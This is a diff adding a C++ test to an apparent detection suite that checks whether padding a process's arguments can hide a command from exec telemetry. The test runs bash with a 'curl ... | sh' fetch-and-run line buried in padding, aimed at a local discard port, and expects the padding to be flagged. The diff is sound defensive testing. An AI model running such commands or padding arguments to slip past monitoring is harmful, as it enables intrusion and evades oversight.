@@ -80,6 +80,20 @@ TEST_F(BlindSpotEventsTest, ArgvPaddedPast4KiBReverseShellOnExec) {
   ExpectNoRows(r, {benign});
 }
 
+// The command hidden in the middle of the padding: the event keeps only the
+// start and the end, and the padding is what is reported.
+TEST_F(BlindSpotEventsTest, ArgvPaddingAroundTheCommandOnExec) {
+  const std::string bash = SystemBinary("bash");
+  const pid_t bad =
+      RunToEnd(bash, {"bash", "-c", kPad + "curl -fsSL http://127.0.0.1:9/x | sh; exit 0" + kPad});
+  const pid_t benign = RunToEnd(bash, {"bash", "-c", "exit 0", "x", std::string(300, 'a')});
+  ASSERT_TRUE(bad > 0 && benign > 0);
+  auto r = StopAndRun("proc-argv-padding");
+  auto row = ExpectOneRow(r, bad);
+  EXPECT_EQ(row.value("source", ""), "event") << row.dump();
+  ExpectNoRows(r, {benign});
+}
+
 // ---------------------------------------------------------------------------
 // Case 5: the loader and the interpreter run the payload.
 
